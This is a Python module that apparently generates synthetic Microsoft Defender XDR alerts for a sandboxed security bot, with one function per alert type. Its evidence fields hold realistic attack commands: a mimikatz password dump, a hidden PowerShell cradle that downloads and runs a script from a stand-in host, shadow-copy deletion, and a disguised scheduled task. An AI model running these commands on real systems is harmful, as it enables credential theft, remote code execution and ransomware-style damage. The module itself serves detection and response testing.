"""Alerts of Microsoft Defender XDR in the shape of Graph's `alerts_v2`, one function per type of alert."""

import random
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from datetime import datetime, timedelta

from bot.sandbox import feed_evidence as ev
from bot.sandbox.clock import stamp
from bot.sandbox.world import Json

_TENANT = ev.guid("tenant")
_POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
_PORTAL = "https://security.microsoft.com"


@dataclass(frozen=True, slots=True, kw_only=True)
class _Service:
    source: str
    detection: str
    product: str
    prefix: str


_ENDPOINT = _Service(source="microsoftDefenderForEndpoint", detection="microsoftDefenderForEndpoint",
                     product="Microsoft Defender for Endpoint", prefix="da")  # fmt: skip
_ANTIVIRUS = _Service(source="microsoftDefenderForEndpoint", detection="antivirus",
                      product="Microsoft Defender for Endpoint", prefix="da")  # fmt: skip
_IDENTITY = _Service(source="microsoftDefenderForIdentity", detection="microsoftDefenderForIdentity",
                     product="Microsoft Defender for Identity", prefix="aa")  # fmt: skip
_OFFICE = _Service(source="microsoftDefenderForOffice365", detection="microsoftDefenderForOffice365",
                   product="Microsoft Defender for Office 365", prefix="fa")  # fmt: skip
_CLOUD_APPS = _Service(source="microsoftDefenderForCloudApps", detection="cloudAppSecurity",
                       product="Microsoft Defender for Cloud Apps", prefix="ca")  # fmt: skip
_ENTRA = _Service(source="azureAdIdentityProtection", detection="azureAdIdentityProtection",
                  product="Microsoft Entra ID Protection", prefix="ad")  # fmt: skip


def alert(kind: str, *, rng: random.Random, at: datetime, now: datetime) -> Json:
    """An alert whose first activity was at `at`; the portal made it a minute later, at the latest `now`."""
    service, own = KINDS[kind](rng, at)
    created = min(at + timedelta(seconds=rng.randint(20, 90)), now)
    number = f"{service.prefix}{rng.randint(10**17, 10**18 - 1)}_{rng.randint(10**8, 10**9)}"
    if service.prefix not in ("da", "ed"):
        number = f"{service.prefix}{ev.made_guid(rng)}"
    host = next((e["hostName"] for e in own["evidence"] if "hostName" in e), None)
    incident = str(20 + sum(map(ord, host)) % 60) if host else None
    return {
        "id": number, "providerAlertId": number[2:], "tenantId": _TENANT, "status": "new",
        "classification": None, "determination": None, "assignedTo": None, "serviceSource": service.source,
        "detectionSource": service.detection, "productName": service.product, "detectorId": ev.guid(f"detector/{kind}"),
        "incidentId": incident, "incidentWebUrl": f"{_PORTAL}/incident2/{incident}/overview" if incident else None,
        "alertWebUrl": f"{_PORTAL}/alerts/{number}", "actorDisplayName": None, "threatDisplayName": None,
        "threatFamilyName": None, "investigationState": "queued", "alertPolicyId": None, "additionalData": None,
        "systemTags": [], "customDetails": {}, "comments": [], "resolvedDateTime": None,
        "createdDateTime": stamp(created), "lastUpdateDateTime": stamp(created), "firstActivityDateTime": stamp(at),
        "lastActivityDateTime": stamp(min(at + timedelta(minutes=rng.randint(0, 9)), now)),
        "categories": [own["category"]], **own,
    }  # fmt: skip


_Made = tuple[_Service, Json]


def _credential_theft(rng: random.Random, at: datetime) -> _Made:
    host, who = rng.choice([("web-1", "svc-build"), ("build-7", "svc-build"), ("dc-1", "h.hale")])
    tool = r"C:\ProgramData\drop\mimikatz.exe"
    return _ENDPOINT, {
        "title": "Mimikatz credential theft", "severity": "high", "category": "CredentialAccess",
        "description": f"A tool that reads passwords from memory ran on {host} under the account {who}.",
        "recommendedActions": (
            "Isolate the machine.\nReset the passwords of all accounts that were signed in to it.\n"
            "Look for sign-ins of these accounts elsewhere since the first activity."
        ),
        "mitreTechniques": ["T1003.001", "T1078"], "threatFamilyName": "Mimikatz", "threatDisplayName": "Mimikatz",
        "investigationState": "pendingApproval",
        "evidence": [
            ev.device(host, at=at, user=who, roles=("attacked",), verdict="suspicious"),
            ev.user(who, at=at, roles=("compromised",)),
            ev.process('mimikatz.exe "sekurlsa::logonpasswords" exit', path=tool, parent=_POWERSHELL, by=who,
                       host=host, at=at, pid=rng.randint(900, 9000)),
            ev.file(tool, at=at, status="active"),
        ],
    }  # fmt: skip


def _powershell(rng: random.Random, at: datetime) -> _Made:
    host, who = rng.choice([("build-7", "svc-build"), ("build-7", "svc-build"), ("hr-lt-04", "g.gruber")])
    link = f"http://files.example.net/{rng.choice(['a', 'b'])}.ps1"
    command = f"powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('{link}')\""
    ip = rng.choice(list(ev.ADDRESSES))
    return _ENDPOINT, {
        "title": "PowerShell downloaded and ran a script", "severity": "medium", "category": "Execution",
        "description": f"PowerShell on {host} fetched a script from the internet and ran it straight from memory.",
        "recommendedActions": "Read the script.\nAsk the account's owner whether this was planned.\nBlock the address.",
        "mitreTechniques": ["T1059.001", "T1105"],
        "evidence": [
            ev.device(host, at=at, user=who), ev.user(who, at=at),
            ev.process(command, path=_POWERSHELL, parent=r"C:\Windows\explorer.exe", by=who, host=host, at=at,
                       pid=rng.randint(900, 9000)),
            ev.url(link, at=at), ev.address(ip, at=at, roles=("destination",)),
        ],
    }  # fmt: skip


def _ransomware(rng: random.Random, at: datetime) -> _Made:
    host, who = rng.choice([("fin-lt-12", "e.evans"), ("web-1", "svc-build")])
    return _ENDPOINT, {
        "title": "Many files rewritten as by ransomware", "severity": "high", "category": "Impact",
        "description": f"In a few minutes {rng.randint(300, 4000)} files on {host} got a new extension.",
        "recommendedActions": "Isolate the machine at once.\nStop the process.\nCheck the shares that it could reach.",
        "mitreTechniques": ["T1486", "T1490"], "systemTags": ["Critical asset"],
        "evidence": [
            ev.device(host, at=at, user=who, roles=("attacked",), verdict="malicious"), ev.user(who, at=at),
            ev.file(r"C:\Users\Public\lockbit-like.exe", at=at, status="active"),
            ev.process("vssadmin.exe delete shadows /all /quiet", path=r"C:\Windows\System32\vssadmin.exe",
                       parent=r"C:\Users\Public\lockbit-like.exe", by=who, host=host, at=at,
                       pid=rng.randint(900, 9000)),
        ],
    }  # fmt: skip


def _unwanted(rng: random.Random, at: datetime) -> _Made:
    host, who = rng.choice([("fin-lt-12", "e.evans"), ("hr-lt-04", "g.gruber"), ("hr-lt-04", "g.gruber")])
    return _ANTIVIRUS, {
        "title": "Unwanted software was blocked", "severity": "low", "category": "UnwantedSoftware",
        "description": f"A toolbar installer was stopped on {host} before it ran.",
        "recommendedActions": "Nothing is urgent. Remind the owner where to get software.",
        "mitreTechniques": [], "investigationState": "successfullyRemediated",
        "evidence": [
            ev.device(host, at=at, user=who),
            ev.file(rf"C:\Users\{who}\Downloads\free-pdf-setup.exe", at=at, verdict="suspicious"),
        ],
    }  # fmt: skip


def _persistence(rng: random.Random, at: datetime) -> _Made:
    host, who = rng.choice([("dc-1", "h.hale"), ("build-7", "svc-build")])
    return _ENDPOINT, {
        "title": "A scheduled task starts an unknown program", "severity": "medium", "category": "Persistence",
        "description": f"A task on {host} is named like a Windows update and starts a program from a temporary folder.",
        "recommendedActions": "Look at the program.\nDelete the task where nobody knows it.",
        "mitreTechniques": ["T1053.005"],
        "evidence": [
            ev.device(host, at=at, user=who), ev.user(who, at=at),
            ev.process(r"schtasks.exe /create /tn WinUpdateCheck /tr C:\Temp\upd.exe /sc onlogon",
                       path=r"C:\Windows\System32\schtasks.exe", parent=_POWERSHELL, by=who, host=host, at=at,
                       pid=rng.randint(900, 9000)),
            ev.file(r"C:\Temp\upd.exe", at=at, verdict="suspicious", status="none"),
        ],
    }  # fmt: skip


def _password_spray(rng: random.Random, at: datetime) -> _Made:
    ip = rng.choice(list(ev.ADDRESSES))
    targets = rng.sample([u for u in ev.USERS if u != "svc-build"], 3)
    return _IDENTITY, {
        "title": "Password spray against several accounts", "severity": "high", "category": "CredentialAccess",
        "description": f"One address tried a few common passwords on {rng.randint(18, 90)} accounts.",
        "recommendedActions": "Block the address.\nCheck whether one of the attempts succeeded.",
        "mitreTechniques": ["T1110.003"],
        "evidence": [
            ev.address(ip, at=at, roles=("attacker",)), *(ev.user(u, at=at, roles=("attacked",)) for u in targets),
            ev.device("dc-1", at=at, roles=("destination",)),
        ],
    }  # fmt: skip


def _reconnaissance(rng: random.Random, at: datetime) -> _Made:
    who = rng.choice(["f.farah", "svc-build"])
    return _IDENTITY, {
        "title": "Unusual questions to the directory (LDAP)", "severity": "medium", "category": "Discovery",
        "description": "An account listed privileged groups and service accounts that it never asked for before.",
        "recommendedActions": "Ask the owner of the account.\nLook at what else the machine did in that hour.",
        "mitreTechniques": ["T1087.002", "T1069.002"],
        "evidence": [
            ev.user(who, at=at, roles=("source",)), ev.device("build-7", at=at, user=who, roles=("source",)),
            ev.device("dc-1", at=at, roles=("destination",)),
        ],
    }  # fmt: skip


def _phishing(rng: random.Random, at: datetime) -> _Made:
    who = rng.choice(["e.evans", "f.farah", "g.gruber"])
    link, sender = "https://payroll-login.example.org/contoso", "payroll@mail.example.org"
    return _OFFICE, {
        "title": "Phishing mail was delivered and then removed", "severity": "low", "category": "InitialAccess",
        "description": "A mail with a link to a false sign-in page reached an inbox before the link was known.",
        "recommendedActions": "Ask whether the link was opened.\nSearch for the same sender in other mailboxes.",
        "mitreTechniques": ["T1566.002"], "investigationState": "running",
        "evidence": [
            ev.mailbox(who, at=at), ev.url(link, at=at),
            ev.mail("Your payslip for this month", to=who, sender=sender, link=link, at=at, rng=rng),
        ],
    }  # fmt: skip


def _link_click(rng: random.Random, at: datetime) -> _Made:
    who = rng.choice(["e.evans", "f.farah"])
    link = "https://payroll-login.example.org/contoso"
    return _OFFICE, {
        "title": "Somebody opened a link that is now known to be bad", "severity": "high", "category": "InitialAccess",
        "description": f"{ev.USERS[who]} went on past the warning to a page that collects passwords.",
        "recommendedActions": "Reset the password and end all sessions.\nLook for sign-ins from new places.",
        "mitreTechniques": ["T1566.002", "T1204.001"],
        "evidence": [ev.user(who, at=at, roles=("attacked",)), ev.mailbox(who, at=at), ev.url(link, at=at)],
    }  # fmt: skip


def _mass_download(rng: random.Random, at: datetime) -> _Made:
    who, ip = rng.choice(["f.farah", "h.hale"]), rng.choice(list(ev.ADDRESSES))
    return _CLOUD_APPS, {
        "title": "One person downloaded very many files", "severity": "medium", "category": "Exfiltration",
        "description": f"{ev.USERS[who]} downloaded {rng.randint(400, 2600)} files from SharePoint within an hour.",
        "recommendedActions": "Ask the person and the manager.\nCheck the sensitivity of the files.",
        "mitreTechniques": ["T1530"],
        "evidence": [
            ev.user(who, at=at, roles=("source",)), ev.app("Microsoft SharePoint Online", 20892, at=at),
            ev.address(ip, at=at),
        ],
    }  # fmt: skip


def _sign_in(rng: random.Random, at: datetime) -> _Made:
    who, ip = rng.choice(["e.evans", "g.gruber", "h.hale"]), rng.choice(list(ev.ADDRESSES))
    return _ENTRA, {
        "title": "Impossible travel: two far places in a short time",
        "severity": rng.choice(["medium", "medium", "low"]),
        "category": "InitialAccess",
        "description": f"{ev.USERS[who]} signed in from two countries in less time than the journey takes.",
        "recommendedActions": "Ask whether the person travels or uses a VPN.\nIf not, reset the password.",
        "mitreTechniques": ["T1078.004"], "additionalData": {"riskEventType": "unlikelyTravel"},
        "evidence": [ev.user(who, at=at, roles=("compromised",)), ev.address(ip, at=at)],
    }  # fmt: skip


KINDS: Mapping[str, Callable[[random.Random, datetime], _Made]] = {
    "credential_theft": _credential_theft,
    "powershell": _powershell,
    "ransomware": _ransomware,
    "unwanted": _unwanted,
    "persistence": _persistence,
    "password_spray": _password_spray,
    "reconnaissance": _reconnaissance,
    "phishing": _phishing,
    "link_click": _link_click,
    "mass_download": _mass_download,
    "sign_in": _sign_in,
}
